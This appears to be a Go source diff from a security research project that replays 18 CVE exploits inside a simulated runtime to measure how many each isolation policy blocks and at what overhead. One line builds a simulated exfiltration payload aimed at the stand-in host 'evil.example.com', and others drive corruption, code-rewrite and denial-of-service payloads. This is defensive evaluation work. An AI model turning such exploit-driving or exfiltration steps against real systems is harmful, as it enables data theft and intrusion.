@@ -1,0 +1,407 @@
+package report
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+
+	"freepart.dev/freepart/internal/analysis"
+	"freepart.dev/freepart/internal/apps"
+	"freepart.dev/freepart/internal/attack"
+	"freepart.dev/freepart/internal/core"
+	"freepart.dev/freepart/internal/framework"
+	"freepart.dev/freepart/internal/framework/all"
+	"freepart.dev/freepart/internal/framework/simcv"
+	"freepart.dev/freepart/internal/isolation"
+	"freepart.dev/freepart/internal/kernel"
+	"freepart.dev/freepart/internal/mem"
+	"freepart.dev/freepart/internal/vclock"
+)
+
+// IsolationCVEOutcome is one cell of the blocked-CVE matrix: one evaluation
+// CVE replayed live under one isolation policy.
+type IsolationCVEOutcome struct {
+	// CVE is the vulnerability id (Table 5).
+	CVE string `json:"cve"`
+	// API is the vulnerable API the exploit was driven through.
+	API string `json:"api"`
+	// Class is the vulnerability class (attack.VulnClass).
+	Class string `json:"class"`
+	// Tier is the isolation tier the policy assigns to the CVE's API type.
+	Tier string `json:"tier"`
+	// Blocked reports whether the class verdict held after the attack ran:
+	// critical data intact (mem write), nothing on the wire (mem read),
+	// host alive (DoS), code pages intact (RCE).
+	Blocked bool `json:"blocked"`
+}
+
+// IsolationResult is one row of the blocked-CVEs-vs-overhead frontier: one
+// policy's live security matrix plus its serving cost.
+type IsolationResult struct {
+	// Policy is the preset name (paper / tiered / erim / none).
+	Policy string `json:"policy"`
+	// Blocked counts CVEs the policy contained, out of Total.
+	Blocked int `json:"blocked"`
+	Total   int `json:"total"`
+	// CriticalPath is the serving probe's max-merged virtual time across
+	// shards: the full detection pipeline (load, detect, annotate, show,
+	// store) over a fixed request stream.
+	CriticalPath vclock.Duration `json:"critical_path_ns"`
+	// OverheadPct is CriticalPath relative to the "none" (in-host) row.
+	OverheadPct float64 `json:"overhead_pct"`
+	// DomainSwitches / DomainCopies count the MPK-tier accounting events the
+	// serving probe generated (zero for pure process or host policies).
+	DomainSwitches uint64 `json:"domain_switches"`
+	DomainCopies   uint64 `json:"domain_copies"`
+	// CVEs is the per-CVE matrix behind Blocked.
+	CVEs []IsolationCVEOutcome `json:"cves"`
+}
+
+// MeasureIsolation maps the blocked-CVEs-vs-overhead frontier: every
+// isolation preset replays all 18 evaluation CVEs live through their own
+// API sites, then serves a fixed detection request stream to price the
+// mechanism. Everything runs in virtual time and is deterministic.
+func MeasureIsolation(shards, requests int) ([]IsolationResult, error) {
+	reg := all.Registry()
+	cat := hybridCatCached(reg)
+	cves := attack.EvalCVEs()
+
+	out := make([]IsolationResult, 0, len(isolation.Presets()))
+	for _, pol := range isolation.Presets() {
+		res := IsolationResult{Policy: pol.Name, Total: len(cves)}
+		for _, cve := range cves {
+			blocked, err := replayIsolationCVE(cat, pol, cve)
+			if err != nil {
+				return nil, fmt.Errorf("report: %s under %s: %w", cve.ID, pol.Name, err)
+			}
+			if blocked {
+				res.Blocked++
+			}
+			res.CVEs = append(res.CVEs, IsolationCVEOutcome{
+				CVE:     cve.ID,
+				API:     cve.API,
+				Class:   cve.Class.String(),
+				Tier:    pol.TierOf(cve.APIType).String(),
+				Blocked: blocked,
+			})
+		}
+		crit, switches, copies, err := isolationServing(reg, cat, pol, shards, requests)
+		if err != nil {
+			return nil, fmt.Errorf("report: serving under %s: %w", pol.Name, err)
+		}
+		res.CriticalPath = crit
+		res.DomainSwitches = switches
+		res.DomainCopies = copies
+		out = append(out, res)
+	}
+
+	// Overhead is priced against the unprotected in-host baseline.
+	var base vclock.Duration
+	for _, r := range out {
+		if r.Policy == "none" {
+			base = r.CriticalPath
+		}
+	}
+	if base > 0 {
+		for i := range out {
+			out[i].OverheadPct = 100 * (float64(out[i].CriticalPath)/float64(base) - 1)
+		}
+	}
+	return out, nil
+}
+
+// replayIsolationCVE runs one CVE's exploit live under one policy and
+// returns the class verdict. The attack targets are planted in the host
+// process: a critical secret (registered, so MPK policies tag it with the
+// host-critical key) and an r-x code region (deliberately untagged — MPK
+// does not stop an in-process mprotect, and the verdict must show that).
+func replayIsolationCVE(cat *analysis.Categorization, pol *isolation.Policy, cve attack.CVE) (bool, error) {
+	k := kernel.New()
+	rt, err := core.New(k, all.Registry(), cat, core.ConfigForIsolation(pol))
+	if err != nil {
+		return false, err
+	}
+	defer rt.Close()
+	log := &attack.Log{}
+	rt.OnExploit = log.Handler()
+
+	crit, err := rt.Host.Space().Alloc(32)
+	if err != nil {
+		return false, err
+	}
+	if err := rt.Host.Space().Store(crit.Base, []byte("sensitive")); err != nil {
+		return false, err
+	}
+	rt.RegisterCritical(crit)
+
+	code, err := rt.Host.Space().Alloc(64)
+	if err != nil {
+		return false, err
+	}
+	codeBytes := []byte("TRUSTED-CODE-SEG")
+	if err := rt.Host.Space().Store(code.Base, codeBytes); err != nil {
+		return false, err
+	}
+	if _, err := rt.Host.Space().ProtectRegion(code, mem.PermRead|mem.PermExec); err != nil {
+		return false, err
+	}
+
+	var payload []byte
+	switch cve.Class {
+	case attack.ClassMemWrite:
+		payload = attack.Corrupt(cve.ID, crit.Base, []byte("OWNED"))
+	case attack.ClassMemRead:
+		payload = attack.Exfiltrate(cve.ID, crit.Base, 9, "evil.example.com")
+	case attack.ClassRCE:
+		payload = attack.CodeRewrite(cve.ID, code.Base, len(codeBytes))
+	default:
+		payload = attack.DoS(cve.ID)
+	}
+
+	// Drive the exploit through the CVE's own API site. Call errors are the
+	// expected outcome of a fired exploit; the verdict below is what counts.
+	driveIsolationCVE(k, rt, cve, payload)
+
+	switch cve.Class {
+	case attack.ClassMemWrite:
+		data, _ := rt.Host.Space().Load(crit.Base, 9)
+		return string(data) == "sensitive", nil
+	case attack.ClassMemRead:
+		return len(k.Net.Sent()) == 0, nil
+	case attack.ClassRCE:
+		data, _ := rt.Host.Space().Load(code.Base, len(codeBytes))
+		return string(data) == string(codeBytes), nil
+	default:
+		return rt.Host.Alive(), nil
+	}
+}
+
+// driveIsolationCVE feeds the crafted payload into the CVE's vulnerable
+// API: via a crafted file, a pushed camera frame, an exact-length mat (the
+// trigger parser reads the payload to the end of the object's bytes), or a
+// trigger-carrying tensor padded with 0.5 (an invalid byte value, so the
+// trigger scan stops exactly at the payload's end).
+func driveIsolationCVE(k *kernel.Kernel, rt *core.Runtime, cve attack.CVE, payload []byte) {
+	ctx := rt.HostCtx()
+	switch cve.API {
+	case "cv.imread", "cv.cvLoad":
+		k.FS.WriteFile("/data/evil.img", payload)
+		_, _, _ = rt.Call(cve.API, framework.Str("/data/evil.img"))
+	case "cv.VideoCapture.read":
+		cam := kernel.NewCamera("/dev/camera0")
+		cam.Push(payload)
+		k.AddCamera(cam)
+		h, _, err := rt.Call("cv.VideoCapture", framework.Int64(0))
+		if err != nil || len(h) == 0 {
+			return
+		}
+		_, _, _ = rt.Call("cv.VideoCapture.read", h[0].Value())
+	case "cv.CascadeClassifier.detectMultiScale":
+		k.FS.WriteFile("/data/model.xml", simcv.EncodeClassifier(150, 4))
+		mh, _, err := rt.Call("cv.CascadeClassifier", framework.Str("/data/model.xml"))
+		if err != nil || len(mh) == 0 {
+			return
+		}
+		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
+		if err != nil {
+			return
+		}
+		_, _, _ = rt.Call(cve.API, mh[0].Value(), framework.Obj(id))
+	case "cv.warpPerspective":
+		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
+		if err != nil {
+			return
+		}
+		hid, ht, err := ctx.NewTensor(9)
+		if err != nil {
+			return
+		}
+		_ = ht.SetValues([]float64{1, 0, 0, 0, 1, 0, 0, 0, 1})
+		_, _, _ = rt.Call(cve.API, framework.Obj(id), framework.Obj(hid))
+	case "cv.equalizeHist", "cv.findContours":
+		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
+		if err != nil {
+			return
+		}
+		_, _, _ = rt.Call(cve.API, framework.Obj(id))
+	case "cv.imshow":
+		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
+		if err != nil {
+			return
+		}
+		_, _, _ = rt.Call(cve.API, framework.Str("w"), framework.Obj(id))
+	case "tf.nn.conv3d":
+		id, ok := triggerTensor(ctx, payload, 3, 3, 3)
+		if ok {
+			_, _, _ = rt.Call(cve.API, framework.Obj(id))
+		}
+	case "tf.nn.avg_pool", "tf.nn.max_pool":
+		id, ok := triggerTensor(ctx, payload, 8, 8)
+		if ok {
+			_, _, _ = rt.Call(cve.API, framework.Obj(id))
+		}
+	case "tf.matmul":
+		id, ok := triggerTensor(ctx, payload, 8, 8)
+		if ok {
+			_, _, _ = rt.Call(cve.API, framework.Obj(id), framework.Obj(id))
+		}
+	}
+}
+
+// triggerTensor builds a tensor whose leading values spell the trigger
+// bytes, padded with 0.5 so the byte scan stops at the payload boundary.
+func triggerTensor(ctx *framework.Ctx, payload []byte, shape ...int) (uint64, bool) {
+	n := 1
+	for _, d := range shape {
+		n *= d
+	}
+	if len(payload) > n {
+		return 0, false
+	}
+	id, t, err := ctx.NewTensor(shape...)
+	if err != nil {
+		return 0, false
+	}
+	vals := make([]float64, n)
+	for i := range vals {
+		vals[i] = 0.5
+	}
+	for i, b := range payload {
+		vals[i] = float64(b)
+	}
+	if err := t.SetValues(vals); err != nil {
+		return 0, false
+	}
+	return id, true
+}
+
+// isolationServing prices one policy: a session-sharded executor serves a
+// fixed detection stream where every request crosses all four API types
+// (load, detect, annotate, show, store), so tiering visualizing/storing
+// down to MPK domains shows up in the critical path. Returns the critical
+// path and the summed domain-switch/copy counts across shards.
+func isolationServing(reg *framework.Registry, cat *analysis.Categorization, pol *isolation.Policy, shards, requests int) (vclock.Duration, uint64, uint64, error) {
+	reqs := apps.GenDetectionRequests(7, requests)
+	for i := range reqs {
+		reqs[i].Arrival = 0 // closed loop: measure capacity, not arrival pacing
+	}
+	ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.ConfigForIsolation(pol)))
+	if err != nil {
+		return 0, 0, 0, err
+	}
+	defer ex.Close()
+
+	models := make([]core.Handle, ex.Shards())
+	for i := 0; i < ex.Shards(); i++ {
+		sh := ex.Shard(i)
+		sh.K.FS.WriteFile("/srv/model.xml", simcv.EncodeClassifier(150, 4))
+		h, _, err := sh.Ex.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
+		if err != nil {
+			return 0, 0, 0, fmt.Errorf("shard %d model load: %w", i, err)
+		}
+		if len(h) == 0 {
+			return 0, 0, 0, fmt.Errorf("shard %d model load returned no handle", i)
+		}
+		models[i] = h[0]
+		// Steady state only: provisioning cost is identical per shard and
+		// would dilute the per-call mechanism cost being compared.
+		sh.K.Clock.Reset()
+	}
+
+	for i := range reqs {
+		rq := reqs[i]
+		err := ex.Session().Do(func(sh *core.Shard) error {
+			path := fmt.Sprintf("/srv/req-%d.img", i)
+			sh.K.FS.WriteFile(path, rq.Body)
+			img, _, err := sh.Ex.Call("cv.imread", framework.Str(path))
+			if err != nil {
+				return err
+			}
+			if _, _, err := sh.Ex.Call("cv.CascadeClassifier.detectMultiScale",
+				models[sh.ID].Value(), img[0].Value()); err != nil {
+				return err
+			}
+			boxed, _, err := sh.Ex.Call("cv.rectangle", img[0].Value())
+			if err != nil {
+				return err
+			}
+			if _, _, err := sh.Ex.Call("cv.imshow", framework.Str("srv"), boxed[0].Value()); err != nil {
+				return err
+			}
+			_, _, err = sh.Ex.Call("cv.imwrite",
+				framework.Str(fmt.Sprintf("/srv/out-%d.img", i)), boxed[0].Value())
+			return err
+		})
+		if err != nil {
+			return 0, 0, 0, fmt.Errorf("request %d: %w", i, err)
+		}
+	}
+
+	var switches, copies uint64
+	for i := 0; i < ex.Shards(); i++ {
+		if rt := ex.Shard(i).Rt; rt != nil {
+			snap := rt.Metrics.Snapshot()
+			switches += snap.DomainSwitches
+			copies += snap.DomainCopies
+		}
+	}
+	return ex.CriticalPath(), switches, copies, nil
+}
+
+// TableIsolation renders the frontier and optionally writes the rows as
+// JSON to jsonPath (the BENCH_isolation.json artifact).
+func TableIsolation(jsonPath string) (string, error) {
+	results, err := MeasureIsolation(4, 64)
+	if err != nil {
+		return "", err
+	}
+	t := &Table{
+		Title:  "Isolation tiers: blocked CVEs vs serving overhead (18 live exploits, virtual time)",
+		Header: []string{"Policy", "Blocked", "Critical path", "Overhead vs none", "Domain switches", "Domain copies"},
+	}
+	for _, r := range results {
+		t.Add(r.Policy, fmt.Sprintf("%d/%d", r.Blocked, r.Total), r.CriticalPath.String(),
+			fmt.Sprintf("%+.2f%%", r.OverheadPct), d(int(r.DomainSwitches)), d(int(r.DomainCopies)))
+	}
+	t.Notes = append(t.Notes,
+		"Every CVE is replayed live through its own API site; Blocked counts class verdicts that held.",
+		"Overhead is the serving critical path (4 shards, 64 full-pipeline requests) vs the in-host baseline.",
+		"The domain tier blocks cross-domain reads/writes but shares the host's fate: DoS and mprotect-based RCE pass.")
+	if jsonPath != "" {
+		if err := WriteIsolationJSON(jsonPath, results); err != nil {
+			return "", err
+		}
+		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
+	}
+
+	m := &Table{
+		Title:  "Blocked-CVE matrix (rows: CVE; columns: policy)",
+		Header: []string{"CVE", "Class", "API"},
+	}
+	for _, r := range results {
+		m.Header = append(m.Header, r.Policy)
+	}
+	if len(results) > 0 {
+		for i, c := range results[0].CVEs {
+			row := []string{c.CVE, c.Class, c.API}
+			for _, r := range results {
+				cell := "blocked"
+				if !r.CVEs[i].Blocked {
+					cell = "-"
+				}
+				row = append(row, cell)
+			}
+			m.Add(row...)
+		}
+	}
+	return t.String() + "\n" + m.String(), nil
+}
+
+// WriteIsolationJSON writes frontier rows as indented JSON.
+func WriteIsolationJSON(path string, results []IsolationResult) error {
+	b, err := json.MarshalIndent(results, "", "  ")
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(path, append(b, '\n'), 0o644)
+}
